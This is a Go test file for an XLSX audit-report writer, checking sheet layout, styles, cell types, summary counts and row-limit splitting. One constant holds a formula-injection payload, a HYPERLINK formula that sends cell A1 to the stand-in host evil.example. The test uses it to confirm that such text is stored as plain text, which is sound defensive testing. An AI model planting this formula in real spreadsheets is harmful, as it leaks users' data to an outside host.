package report

import (
	"archive/zip"
	"encoding/xml"
	"fmt"
	"io"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/xuri/excelize/v2"
)

const formulaBrowser = `=HYPERLINK("http://evil.example/?leak="&A1,"Chrome")`

var findingColumns = []Column{
	{Label: "Check", Width: 26},
	{Label: "Severity", Kind: Severity},
	{Label: "User", Width: 28},
	{Label: "Session", Width: 20},
	{Label: "Observed", Kind: Time},
	{Label: "Detail", Width: 60, Wrap: true},
}

func findingRows(n int) *sliceRows {
	r := newRows([]string{"check_id", "severity", "username", "session_id", "observed", "detail"})
	for i := range n {
		sev := severities[i%len(severities)]
		r.rows = append(r.rows, []any{
			"check_" + sev, sev, fmt.Sprintf("user%d@example.com", i),
			fmt.Sprintf("0Ak%015d", i), at("2026-03-01T08:00:00Z").Add(time.Duration(i) * time.Minute),
			fmt.Sprintf("finding %d: a session that outlived its user's deactivation by several days and is still valid", i),
		})
	}
	return r
}

var sessionColumns = []Column{
	{Label: "User", Width: 26},
	{Label: "Session", Width: 20},
	{Label: "Created", Kind: Time},
	{Label: "Valid for (s)", Kind: Number},
	{Label: "Latitude", Kind: Number},
	{Label: "Current", Width: 9},
	{Label: "Browser", Width: 30},
}

func sessionSheetRows() *sliceRows {
	r := newRows([]string{"username", "session_id", "created", "num_seconds_valid", "latitude", "is_current", "browser"})
	for i, u := range []string{"ana@example.com", "ana@example.com", "ben@example.com", "cy@example.com", "cy@example.com", "cy@example.com"} {
		browser := any("Chrome 122")
		switch i {
		case 2:
			browser = formulaBrowser
		case 4:
			browser = nil
		}
		r.rows = append(r.rows, []any{u, fmt.Sprintf("0Ak%015d", i), at("2026-02-28T23:59:59Z").Add(time.Duration(i) * time.Hour), int64(7200), -33.8688, i%2 == 0, browser})
	}
	return r
}

func sampleSummary() Summary {
	return Summary{
		Title:       "Session audit — example org",
		AsOf:        at("2026-03-02T00:00:00Z"),
		GeneratedAt: at("2026-03-02T06:30:12Z"),
		Version:     "v0.1.0",
		Policy:      "policy.yaml (SHA-256 44926bfddd59e49de2dcbafe95033d0e038f0d422d3ebfa24d9abf2045596830)",
		Inputs: []InputStats{
			{File: "AuthSession-2026-03-01.csv.gz", Kind: "sessions", Format: "Bulk API CSV (gzip)", Read: 12040, Loaded: 12000, Duplicates: 30, Rejected: 10, Earliest: at("2026-02-01T00:00:00Z"), Latest: at("2026-03-01T23:59:00Z")},
			{File: "LoginHistory.csv", Kind: "logins", Format: "Setup download CSV", Read: 250000, Loaded: 249990, Rejected: 10, Earliest: at("2025-09-01T00:00:00Z"), Latest: at("2026-03-01T23:00:00Z")},
			{File: "User.csv", Kind: "users", Format: "Bulk API CSV", Read: 800, Loaded: 800},
		},
		Checks: []CheckStats{
			{ID: "deactivated_user_session", Title: "Sessions of deactivated users", Severity: "critical", Counts: map[string]int64{"critical": 2}},
			{ID: "impossible_travel", Title: "Logins from places too far apart for the time between them", Severity: "high", Counts: map[string]int64{"high": 5, "medium": 1}},
			{ID: "long_lived_session", Title: "Sessions valid longer than policy allows", Severity: "medium", Counts: map[string]int64{"medium": 1204, "low": 3}},
			{ID: "legacy_tls", Title: "Logins over a legacy TLS version", Severity: "low", Counts: map[string]int64{"low": 17}},
			{ID: "api_only_user", Title: "Interactive sessions of API-only users", Severity: "info", Counts: map[string]int64{}},
		},
		Removals: 7,
		Rejects:  20,
	}
}

// mustWriteXLSX writes wb with the given row limit and opens the result.
func mustWriteXLSX(tb testing.TB, wb Workbook, rowLimit int) *excelize.File {
	tb.Helper()
	path := filepath.Join(tb.TempDir(), "report.xlsx")
	if err := writeXLSX(path, wb, rowLimit); err != nil {
		tb.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { f.Close() })
	return f
}

func sampleWorkbook(findings int) Workbook {
	return Workbook{
		Summary: sampleSummary(),
		Sheets: []Sheet{
			{Name: "Findings", Columns: findingColumns, Rows: findingRows(findings)},
			{Name: "Sessions", Columns: sessionColumns, Rows: sessionSheetRows(), GroupBy: "User"},
			{Name: "Rejects", Columns: []Column{{Label: "File"}, {Label: "Line", Kind: Number}}, Rows: newRows([]string{"file", "line"})},
		},
	}
}

func TestWriteXLSXSheets(t *testing.T) {
	f := mustWriteXLSX(t, sampleWorkbook(5), excelize.TotalRows)
	assertReadable(t, f.Path)

	if diff := cmp.Diff([]string{"Summary", "Findings", "Sessions", "Rejects"}, f.GetSheetList()); diff != "" {
		t.Errorf("sheets (-want +got):\n%s", diff)
	}
	// The workbook opens on the Summary sheet.
	if got := f.GetActiveSheetIndex(); got != 0 {
		t.Errorf("got active sheet %d (%s), want 0 (Summary)", got, f.GetSheetName(got))
	}
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if props.Title != "Session audit — example org" || props.Creator != "sessionaudit" {
		t.Errorf("got title %q and creator %q, want the summary's title and sessionaudit", props.Title, props.Creator)
	}

	filters, titles := map[string]string{}, map[string]string{}
	for _, d := range f.GetDefinedName() {
		switch d.Name {
		case "_xlnm._FilterDatabase":
			filters[d.Scope] = d.RefersTo
		case "_xlnm.Print_Titles":
			titles[d.Scope] = d.RefersTo
		}
	}
	wantFilters := map[string]string{"Findings": "'Findings'!$A$1:$F$6", "Sessions": "'Sessions'!$A$1:$G$7", "Rejects": "'Rejects'!$A$1:$B$1"}
	if diff := cmp.Diff(wantFilters, filters); diff != "" {
		t.Errorf("autofilter names (-want +got):\n%s", diff)
	}
	// A printed data sheet repeats its header row, and only it, on each page.
	wantTitles := map[string]string{"Findings": "'Findings'!$1:$1", "Sessions": "'Sessions'!$1:$1", "Rejects": "'Rejects'!$1:$1"}
	if diff := cmp.Diff(wantTitles, titles); diff != "" {
		t.Errorf("print titles (-want +got):\n%s", diff)
	}
	// The name alone does not show the drop-downs: each sheet needs its element.
	if diff := cmp.Diff([]string{`<autoFilter ref="A1:B1">`, `<autoFilter ref="A1:F6">`, `<autoFilter ref="A1:G7">`}, autoFilterElements(t, f.Path)); diff != "" {
		t.Errorf("autofilter elements (-want +got):\n%s", diff)
	}
	// Each sheet says which cells it takes, as readers that size a sheet by
	// its <dimension> need; the stream writer alone would say A1.
	wantDims := map[string]string{"Findings": "A1:F6", "Sessions": "A1:G7", "Rejects": "A1:B1"}
	summaryRows, err := f.GetRows("Summary")
	if err != nil {
		t.Fatal(err)
	}
	wantDims["Summary"] = fmt.Sprintf("A1:I%d", len(summaryRows))
	dims := map[string]string{}
	for _, sheet := range f.GetSheetList() {
		if dims[sheet], err = f.GetSheetDimension(sheet); err != nil {
			t.Fatal(err)
		}
	}
	if diff := cmp.Diff(wantDims, dims); diff != "" {
		t.Errorf("sheet dimensions (-want +got):\n%s", diff)
	}
	for _, sheet := range []string{"Findings", "Sessions", "Rejects"} {
		panes, err := f.GetPanes(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
			t.Errorf("%s: got panes %+v, want the header row frozen", sheet, panes)
		}
		// The cursor starts in the scrolling pane below the header, on A2.
		if panes.ActivePane != "bottomLeft" || len(panes.Selection) != 1 ||
			panes.Selection[0] != (excelize.Selection{SQRef: "A2", ActiveCell: "A2", Pane: "bottomLeft"}) {
			t.Errorf("%s: got active pane %q and selection %+v, want A2 selected in the bottom pane", sheet, panes.ActivePane, panes.Selection)
		}
		style := mustCellStyle(t, f, sheet, "A1")
		if !style.Font.Bold || len(style.Fill.Color) == 0 {
			t.Errorf("%s: header style %+v is not bold with a fill", sheet, style)
		}
	}
}

func TestWriteXLSXCells(t *testing.T) {
	f := mustWriteXLSX(t, sampleWorkbook(5), excelize.TotalRows)

	t.Run("formula-looking text stays text", func(t *testing.T) {
		const cell = "G4" // the third session's browser
		if got := mustCellValue(t, f, "Sessions", cell); got != formulaBrowser {
			t.Errorf("got %q, want %q", got, formulaBrowser)
		}
		if formula, err := f.GetCellFormula("Sessions", cell); err != nil || formula != "" {
			t.Errorf("got formula %q (err %v), want none", formula, err)
		}
		if typ, err := f.GetCellType("Sessions", cell); err != nil || typ != excelize.CellTypeInlineString {
			t.Errorf("got cell type %v (err %v), want an inline string", typ, err)
		}
	})

	t.Run("times are date-times", func(t *testing.T) {
		raw, err := f.GetCellValue("Findings", "E2", excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		serial, err := strconv.ParseFloat(raw, 64)
		if err != nil {
			t.Fatalf("got raw value %q, want a serial number", raw)
		}
		got, err := excelize.ExcelDateToTime(serial, false)
		if err != nil {
			t.Fatal(err)
		}
		if want := at("2026-03-01T08:00:00Z"); !got.Equal(want) {
			t.Errorf("got %v, want %v", got, want)
		}
		if typ, _ := f.GetCellType("Findings", "E2"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
			t.Errorf("got cell type %v, want a number", typ)
		}
		style := mustCellStyle(t, f, "Findings", "E2")
		if style.CustomNumFmt == nil || *style.CustomNumFmt != excelTime {
			t.Errorf("got number format %v, want %q", style.CustomNumFmt, excelTime)
		}
		if got := mustCellValue(t, f, "Findings", "E2"); got != "2026-03-01 08:00:00 UTC" {
			t.Errorf("got shown value %q, want 2026-03-01 08:00:00 UTC", got)
		}
	})

	t.Run("numbers stay numbers, bools read as in the CSV", func(t *testing.T) {
		for cell, want := range map[string]excelize.CellType{"D2": excelize.CellTypeUnset, "E2": excelize.CellTypeUnset, "F2": excelize.CellTypeInlineString} {
			if typ, _ := f.GetCellType("Sessions", cell); typ != want {
				t.Errorf("%s: got cell type %v, want %v", cell, typ, want)
			}
		}
		if got := mustCellValue(t, f, "Sessions", "E2"); got != "-33.8688" {
			t.Errorf("got %q, want -33.8688", got)
		}
		if got := mustCellValue(t, f, "Sessions", "F2"); got != "true" {
			t.Errorf("got %q, want true", got)
		}
	})

	t.Run("severity cells are coloured", func(t *testing.T) {
		for row, sev := range severities {
			cell := fmt.Sprintf("B%d", row+2)
			if got := mustCellValue(t, f, "Findings", cell); got != sev {
				t.Fatalf("%s: got %q, want %q", cell, got, sev)
			}
			style := mustCellStyle(t, f, "Findings", cell)
			if diff := cmp.Diff([]string{severityColours[sev].fill}, style.Fill.Color); diff != "" {
				t.Errorf("%s fill (-want +got):\n%s", sev, diff)
			}
		}
	})

	t.Run("rows are tall enough for wrapped text", func(t *testing.T) {
		// A detail of about 95 characters wraps onto two lines of a
		// 60-character column; the Sessions sheet wraps nothing.
		for _, c := range []struct {
			sheet string
			want  float64
		}{{"Findings", 2 * lineHeight}, {"Sessions", 15}} {
			got, err := f.GetRowHeight(c.sheet, 2)
			if err != nil {
				t.Fatal(err)
			}
			if got != c.want {
				t.Errorf("%s row 2: got height %v, want %v", c.sheet, got, c.want)
			}
		}
	})

	t.Run("groups are banded", func(t *testing.T) {
		// ana (rows 2-3) unshaded, ben (4) shaded, cy (5-7) unshaded.
		want := []bool{false, false, true, false, false, false}
		for i, shaded := range want {
			cell := fmt.Sprintf("A%d", i+2)
			style := mustCellStyle(t, f, "Sessions", cell)
			if got := len(style.Fill.Color) > 0; got != shaded {
				t.Errorf("%s: got shaded %v, want %v", cell, got, shaded)
			}
		}
		// Every cell of a shaded row is, whatever it holds: text, a
		// time, numbers, a bool and nothing.
		for _, col := range "ABCDEFG" {
			cell := fmt.Sprintf("%c4", col)
			if diff := cmp.Diff([]string{bandFill}, mustCellStyle(t, f, "Sessions", cell).Fill.Color); diff != "" {
				t.Errorf("%s fill (-want +got):\n%s", cell, diff)
			}
		}
	})

	t.Run("cells are aligned and wrapped by kind", func(t *testing.T) {
		type layout struct {
			Horizontal string
			Wrap       bool
		}
		got := map[string]layout{}
		for _, c := range []struct{ sheet, cell string }{
			{"Sessions", "A2"}, {"Sessions", "C2"}, {"Sessions", "D2"}, {"Sessions", "E2"}, {"Findings", "F2"},
		} {
			style := mustCellStyle(t, f, c.sheet, c.cell)
			var l layout
			if style.Alignment != nil {
				l = layout{style.Alignment.Horizontal, style.Alignment.WrapText}
			}
			got[c.sheet+"!"+c.cell] = l
		}
		want := map[string]layout{
			"Sessions!A2": {}, "Sessions!C2": {Horizontal: "center"}, // text, a time
			"Sessions!D2": {Horizontal: "right"}, "Sessions!E2": {Horizontal: "right"}, // an integer, a float
			"Findings!F2": {Wrap: true}, // a finding's detail
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("alignment (-want +got):\n%s", diff)
		}
	})
}

// TestWriteXLSXSummaryTimes checks that the Summary sheet's times are
// date-times that say they are in UTC, not text.
func TestWriteXLSXSummaryTimes(t *testing.T) {
	wb := sampleWorkbook(1)
	// A time in another zone is shown in UTC, as it says.
	wb.Summary.GeneratedAt = wb.Summary.GeneratedAt.In(time.FixedZone("CET", 3600))
	f := mustWriteXLSX(t, wb, excelize.TotalRows)
	// The policy the audit ran with is named beside the version.
	if got := mustCellValue(t, f, summarySheet, "A6") + ": " + mustCellValue(t, f, summarySheet, "B6"); got != "Policy: "+sampleSummary().Policy {
		t.Errorf("A6:B6: got %q, want the policy", got)
	}
	for _, c := range []struct {
		label, labelCell, cell string
		want                   time.Time
	}{
		{"As of", "A3", "B3", at("2026-03-02T00:00:00Z")},
		{"Generated at", "A4", "B4", at("2026-03-02T06:30:12Z")},
		{"AuthSession-2026-03-01.csv.gz", "A13", "H13", at("2026-02-01T00:00:00Z")},
	} {
		t.Run(c.label, func(t *testing.T) {
			if got := mustCellValue(t, f, summarySheet, c.labelCell); got != c.label {
				t.Fatalf("%s: got %q, want %q", c.labelCell, got, c.label)
			}
			raw, err := f.GetCellValue(summarySheet, c.cell, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			serial, err := strconv.ParseFloat(raw, 64)
			if err != nil {
				t.Fatalf("got raw value %q, want a serial number", raw)
			}
			if got, err := excelize.ExcelDateToTime(serial, false); err != nil || !got.Equal(c.want) {
				t.Errorf("got %v (err %v), want %v", got, err, c.want)
			}
			if want := c.want.Format(summaryTime); mustCellValue(t, f, summarySheet, c.cell) != want {
				t.Errorf("got shown value %q, want %q", mustCellValue(t, f, summarySheet, c.cell), want)
			}
		})
	}
}

// The sessions left off the removal list get a line of the Summary sheet
// beside the removals, by reason; with none, there is no such line.
func TestWriteXLSXSummaryWithheld(t *testing.T) {
	for _, c := range []struct {
		name     string
		withheld []Withheld
		want     []string // the row's label and value, or nil for no row
	}{
		{"some", []Withheld{{"protected user", 3}, {"held back, no username", 1}},
			[]string{"Reached, left off the list", "4", "(protected user: 3; held back, no username: 1; see the Sessions sheet)"}},
		{"none", nil, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			wb := sampleWorkbook(1)
			wb.Summary.Withheld = c.withheld
			f := mustWriteXLSX(t, wb, excelize.TotalRows)
			rows, err := f.GetRows(summarySheet)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, r := range rows {
				if len(r) >= 2 && r[0] == "Reached, left off the list" {
					got = r
				}
			}
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Errorf("the Summary sheet's line (-want +got):\n%s", diff)
			}
		})
	}
}

// The Summary sheet's counts: the findings of every check, the sessions
// proposed for removal, the rows rejected, and the totals of the Inputs and
// Findings by check tables, in thousands.
func TestWriteXLSXSummaryCounts(t *testing.T) {
	f := mustWriteXLSX(t, sampleWorkbook(1), excelize.TotalRows)
	rows, err := f.GetRows(summarySheet)
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string
	for _, r := range rows {
		if len(r) > 0 && slices.Contains([]string{"Findings", "Sessions proposed for removal", "Input rows rejected", "Check", "Total"}, r[0]) {
			got = append(got, r)
		}
	}
	want := [][]string{
		{"Findings", "1,232"},
		{"Sessions proposed for removal", "7"},
		{"Input rows rejected", "20"},
		{"Total", "", "", "262,840", "262,790", "30", "20"},
		{"Check", "ID", "Base severity", "Info", "Low", "Medium", "High", "Critical", "Total"},
		{"Total", "", "", "0", "20", "1,205", "5", "2", "1,232"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("the Summary sheet's counts (-want +got):\n%s", diff)
	}
}

// The Summary sheet's columns fit the tables' values, up to 60 characters;
// text that runs on over the empty cells beside it (the title, the policy,
// the accounting line) widens none.
func TestWriteXLSXSummaryColumnWidths(t *testing.T) {
	wb := sampleWorkbook(1)
	long := InputStats{File: "LoginHistory-" + strings.Repeat("x", 63) + ".csv", Kind: "logins", Format: "Bulk API CSV"} // 80 characters
	wb.Summary.Inputs = append(wb.Summary.Inputs, long)
	f := mustWriteXLSX(t, wb, excelize.TotalRows)
	got := map[string]float64{}
	for _, col := range []string{"A", "B", "D", "H"} {
		w, err := f.GetColWidth(summarySheet, col)
		if err != nil {
			t.Fatal(err)
		}
		got[col] = w
	}
	want := map[string]float64{
		"A": 60, // the 80-character file name, and a margin, cut to 60
		"B": 26, // deactivated_user_session; the policy's 86 characters run on
		"D": 10, // 250,000
		"H": 25, // a date-time
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Summary column widths (-want +got):\n%s", diff)
	}
}

// Warnings close the Summary sheet, each wrapped across the table's width;
// without any there is no Warnings heading.
func TestWriteXLSXSummaryWarnings(t *testing.T) {
	warning := strings.Repeat("A sentence an analyst reads. ", 10)
	for _, c := range []struct {
		name     string
		warnings []string
	}{{"one warning", []string{warning}}, {"none", nil}} {
		t.Run(c.name, func(t *testing.T) {
			wb := sampleWorkbook(1)
			wb.Summary.Warnings = c.warnings
			f := mustWriteXLSX(t, wb, excelize.TotalRows)
			rows, err := f.GetRows(summarySheet)
			if err != nil {
				t.Fatal(err)
			}
			heading := slices.IndexFunc(rows, func(r []string) bool { return len(r) > 0 && r[0] == "Warnings" })
			if c.warnings == nil {
				if heading >= 0 {
					t.Fatalf("got a Warnings heading on row %d, want none", heading+1)
				}
				return
			}
			if heading < 0 || heading+1 >= len(rows) || rows[heading+1][0] != warning {
				t.Fatalf("want the Warnings heading followed by the warning; got rows %q", rows)
			}
			cell := fmt.Sprintf("A%d", heading+2)
			merged, err := f.GetMergeCells(summarySheet)
			if err != nil {
				t.Fatal(err)
			}
			if !slices.ContainsFunc(merged, func(m excelize.MergeCell) bool {
				return m.GetStartAxis() == cell && m.GetEndAxis() == fmt.Sprintf("I%d", heading+2)
			}) {
				t.Errorf("want %s merged across A:I, got merges %v", cell, merged)
			}
			// 290 characters at some 100 a line.
			if h, err := f.GetRowHeight(summarySheet, heading+2); err != nil || h != 3*15 {
				t.Errorf("got row height %v (err %v), want room for the 3 wrapped lines", h, err)
			}
		})
	}
}

func TestWriteXLSXSplitsLongSheets(t *testing.T) {
	const limit = 5 // header plus four rows a sheet
	f := mustWriteXLSX(t, sampleWorkbook(10), limit)

	if diff := cmp.Diff([]string{"Summary", "Findings", "Findings (2)", "Findings (3)", "Sessions", "Sessions (2)", "Rejects"}, f.GetSheetList()); diff != "" {
		t.Errorf("sheets (-want +got):\n%s", diff)
	}
	var sessions []string
	for _, sheet := range []string{"Findings", "Findings (2)", "Findings (3)"} {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(findingColumns[0].Label, rows[0][0]); diff != "" {
			t.Errorf("%s has no header (-want +got):\n%s", sheet, diff)
		}
		if len(rows) > limit {
			t.Errorf("%s: got %d rows, want at most %d", sheet, len(rows), limit)
		}
		for _, r := range rows[1:] {
			sessions = append(sessions, r[3])
		}
		if panes, _ := f.GetPanes(sheet); !panes.Freeze {
			t.Errorf("%s: header not frozen", sheet)
		}
		if dim, _ := f.GetSheetDimension(sheet); dim != fmt.Sprintf("A1:F%d", len(rows)) {
			t.Errorf("%s: got dimension %q for %d rows of six columns", sheet, dim, len(rows))
		}
	}
	var want []string
	for _, r := range findingRows(10).rows {
		want = append(want, r[3].(string))
	}
	if diff := cmp.Diff(want, sessions); diff != "" {
		t.Errorf("finding rows across the sheets (-want +got):\n%s", diff)
	}
	// Sessions' second part continues cy's group, still unshaded.
	if style := mustCellStyle(t, f, "Sessions (2)", "A2"); len(style.Fill.Color) > 0 {
		t.Errorf("got cy's continued group shaded, want it unshaded as on the first part")
	}
}

// TestWriteXLSXColumnsRise checks that every worksheet lists its column
// widths in rising order without overlap, as Excel requires: it repairs a
// file whose <col> elements go down, and exceljs drops them.
func TestWriteXLSXColumnsRise(t *testing.T) {
	f := mustWriteXLSX(t, sampleWorkbook(5), excelize.TotalRows)
	z, err := zip.OpenReader(f.Path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	sheets := 0
	for _, file := range z.File {
		if !strings.HasPrefix(file.Name, "xl/worksheets/sheet") {
			continue
		}
		sheets++
		r, err := file.Open()
		if err != nil {
			t.Fatal(err)
		}
		var ws struct {
			Cols []struct {
				Min int `xml:"min,attr"`
				Max int `xml:"max,attr"`
			} `xml:"cols>col"`
		}
		err = xml.NewDecoder(r).Decode(&ws)
		r.Close()
		if err != nil {
			t.Fatalf("%s: %v", file.Name, err)
		}
		if len(ws.Cols) == 0 {
			t.Errorf("%s: got no column widths, want some", file.Name)
		}
		last := 0 // the max of the col before
		for _, c := range ws.Cols {
			if c.Min <= last || c.Max < c.Min {
				t.Errorf("%s: got col min=%d max=%d after max=%d, want columns that rise without overlap", file.Name, c.Min, c.Max, last)
			}
			last = c.Max
		}
	}
	if sheets != 4 {
		t.Errorf("got %d worksheets, want 4", sheets)
	}
}

func TestWriteXLSXRejectsMismatchedColumns(t *testing.T) {
	wb := Workbook{Sheets: []Sheet{{Name: "Findings", Columns: findingColumns[:2], Rows: findingRows(1)}}}
	path := filepath.Join(t.TempDir(), "report.xlsx")
	if err := writeXLSX(path, wb, excelize.TotalRows); err == nil {
		t.Fatal("got no error for 2 columns described over 6, want one")
	}
	assertFiles(t, filepath.Dir(path), map[string]string{})
}

// autoFilterElements returns the autoFilter elements of every worksheet in
// the file at path, sorted.
func autoFilterElements(tb testing.TB, path string) []string {
	tb.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		tb.Fatal(err)
	}
	defer z.Close()
	var got []string
	for _, file := range z.File {
		if !strings.HasPrefix(file.Name, "xl/worksheets/") {
			continue
		}
		r, err := file.Open()
		if err != nil {
			tb.Fatal(err)
		}
		b, err := io.ReadAll(r)
		r.Close()
		if err != nil {
			tb.Fatal(err)
		}
		for _, m := range regexp.MustCompile(`<autoFilter ref="[^"]*">`).FindAllString(string(b), -1) {
			got = append(got, strings.ReplaceAll(m, "$", "")) // excelize writes absolute references
		}
	}
	sort.Strings(got)
	return got
}

func mustCellValue(tb testing.TB, f *excelize.File, sheet, cell string) string {
	tb.Helper()
	v, err := f.GetCellValue(sheet, cell)
	if err != nil {
		tb.Fatal(err)
	}
	return v
}

func mustCellStyle(tb testing.TB, f *excelize.File, sheet, cell string) *excelize.Style {
	tb.Helper()
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		tb.Fatal(err)
	}
	style, err := f.GetStyle(id)
	if err != nil {
		tb.Fatal(err)
	}
	if style.Font == nil {
		style.Font = &excelize.Font{}
	}
	return style
}

func TestFitWidth(t *testing.T) {
	for chars, want := range map[int]float64{0: 12, 10: 12, 11: 13, 51: 53, 58: 60, 500: 60} {
		if got := FitWidth(chars); got != want {
			t.Errorf("FitWidth(%d): got %v, want %v", chars, got, want)
		}
	}
}

// The Summary sheet ends with notes on reading the other sheets, and a users
// export's time cells are empty rather than "unknown".
func TestWriteXLSXSummaryReadingNotes(t *testing.T) {
	wb := sampleWorkbook(1)
	wb.Summary.Inputs = append(wb.Summary.Inputs, InputStats{File: "users.csv", Kind: "users", Format: "Bulk API CSV", Read: 5, Loaded: 5},
		InputStats{File: "empty.csv", Kind: "logins", Format: "Bulk API CSV"})
	f := mustWriteXLSX(t, wb, excelize.TotalRows)
	rows, err := f.GetRows(summarySheet)
	if err != nil {
		t.Fatal(err)
	}
	var notes []string
	inNotes := false
	for _, r := range rows {
		if len(r) == 0 {
			continue
		}
		if r[0] == "users.csv" && len(r) > 7 {
			t.Errorf("the users export's row has times: %q", r)
		}
		if r[0] == "empty.csv" && (len(r) != 8 || r[7] != "no rows") {
			t.Errorf("the empty export's row is %q, want it to say no rows", r)
		}
		if inNotes {
			notes = append(notes, r[0])
		}
		inNotes = inNotes || r[0] == "Reading this workbook"
	}
	if diff := cmp.Diff(readingNotes, notes); diff != "" {
		t.Errorf("the notes after \"Reading this workbook\" (-want +got):\n%s", diff)
	}
}

// countingRows is a Rows of n rows of one column, numbered from 1, made as
// they are read: a million rows of a slice would take a quarter gigabyte.
type countingRows struct{ n, i int64 }

func (r *countingRows) Columns() ([]string, error) { return []string{"n"}, nil }

func (r *countingRows) Next() bool {
	if r.i >= r.n {
		return false
	}
	r.i++
	return true
}

func (r *countingRows) Scan(dest ...any) error {
	*dest[0].(*any) = r.i
	return nil
}

func (r *countingRows) Err() error { return nil }

// TestWriteXLSXSplitsAtExcelsRowLimit writes one row more than a sheet can
// hold under its header: the first sheet fills to Excel's last row,
// 1,048,576, and the row left over goes on "Rows (2)". Excel refuses a
// sheet with a row past its last and would cut a sheet short of it.
func TestWriteXLSXSplitsAtExcelsRowLimit(t *testing.T) {
	path := filepath.Join(t.TempDir(), "report.xlsx")
	wb := Workbook{Sheets: []Sheet{{Name: "Rows", Columns: []Column{{Label: "N", Kind: Number}}, Rows: &countingRows{n: excelize.TotalRows}}}}
	if err := WriteXLSX(path, wb); err != nil {
		t.Fatal(err)
	}
	// Read as parts: excelize would load the million rows into memory.
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	part := func(name string) string {
		t.Helper()
		r, err := z.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		defer r.Close()
		b, err := io.ReadAll(r) // checks the part's CRC and size
		if err != nil {
			t.Fatalf("reading %s: %v", name, err)
		}
		return string(b)
	}
	var sheets []string
	for _, m := range regexp.MustCompile(`<sheet name="([^"]*)"`).FindAllStringSubmatch(part("xl/workbook.xml"), -1) {
		sheets = append(sheets, m[1])
	}
	if diff := cmp.Diff([]string{"Summary", "Rows", "Rows (2)"}, sheets); diff != "" {
		t.Fatalf("sheets (-want +got):\n%s", diff)
	}
	// The Summary sheet is sheet1.xml, and the others follow in order.
	first, second := part("xl/worksheets/sheet2.xml"), part("xl/worksheets/sheet3.xml")
	if got, want := strings.Count(first, "<row "), excelize.TotalRows; got != want {
		t.Errorf("Rows: got %d rows, want %d", got, want)
	}
	last := fmt.Sprintf(`<row r="%d"><c r="A%[1]d" s="\d+"><v>%d</v></c></row></sheetData>`, excelize.TotalRows, excelize.TotalRows-1)
	if !regexp.MustCompile(last).MatchString(first) {
		t.Errorf("Rows: want it to end with row %d holding %d", excelize.TotalRows, excelize.TotalRows-1)
	}
	for name, c := range map[string]struct{ sheet, dim string }{
		"Rows":     {first, fmt.Sprintf("A1:A%d", excelize.TotalRows)},
		"Rows (2)": {second, "A1:A2"},
	} {
		if !strings.Contains(c.sheet, `<dimension ref="`+c.dim+`"`) {
			t.Errorf("%s: want dimension %s", name, c.dim)
		}
	}
	if !regexp.MustCompile(`<row r="2"><c r="A2" s="\d+"><v>1048576</v></c></row></sheetData>`).MatchString(second) {
		t.Errorf("Rows (2): want the last row, 1048576, as row 2 and alone")
	}
}

// A grouped sheet's shading runs on across its continuation sheets as on
// one sheet: a group split between two keeps its shade (ben), and a group
// that starts a sheet takes the next (cy, dan).
func TestWriteXLSXBandsRunOnAcrossSheets(t *testing.T) {
	rows := newRows([]string{"username", "session_id"})
	for i, u := range []string{"ana", "ben", "ben", "cy", "dan", "dan"} {
		rows.rows = append(rows.rows, []any{u, fmt.Sprint(i)})
	}
	sheet := Sheet{Name: "Sessions", Columns: []Column{{Label: "User"}, {Label: "Session"}}, Rows: rows, GroupBy: "User"}
	f := mustWriteXLSX(t, Workbook{Sheets: []Sheet{sheet}}, 3) // header and two rows a sheet
	got := map[string][]bool{}
	for _, name := range []string{"Sessions", "Sessions (2)", "Sessions (3)"} {
		for _, cell := range []string{"A2", "A3"} {
			got[name] = append(got[name], len(mustCellStyle(t, f, name, cell).Fill.Color) > 0)
		}
	}
	want := map[string][]bool{"Sessions": {false, true}, "Sessions (2)": {true, false}, "Sessions (3)": {true, true}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rows 2 and 3 shaded, by sheet, for ana, ben | ben, cy | dan, dan (-want +got):\n%s", diff)
	}
}

// A row is as tall as its most wrapped cell needs, at 15 points a line, up
// to 27 lines (405 points, within Excel's 409); text that does not wrap
// leaves the row at the default height.
func TestWriteXLSXRowHeights(t *testing.T) {
	cols := []Column{{Label: "Detail", Width: 60, Wrap: true}, {Label: "Note", Width: 10}}
	rows := newRows([]string{"detail", "note"},
		[]any{"short", strings.Repeat("n", 100)},
		[]any{strings.Repeat("x", 100), nil}, // 59 characters a line
		[]any{strings.Repeat("y", 59*40), nil},
	)
	f := mustWriteXLSX(t, Workbook{Sheets: []Sheet{{Name: "Details", Columns: cols, Rows: rows}}}, excelize.TotalRows)
	var got []float64
	for row := 2; row <= 4; row++ {
		h, err := f.GetRowHeight("Details", row)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, h)
	}
	if diff := cmp.Diff([]float64{15, 30, 405}, got); diff != "" {
		t.Errorf("heights of rows 2-4 (-want +got):\n%s", diff)
	}
}

// A column is as wide as it is told, or as its kind's default; never so
// narrow that its label is hidden behind the filter button (counting
// characters, not bytes), nor wider than Excel allows.
func TestWriteXLSXColumnWidths(t *testing.T) {
	cols := []Column{
		{Label: "Severity", Kind: Severity}, // 11 by default, 12 for the label
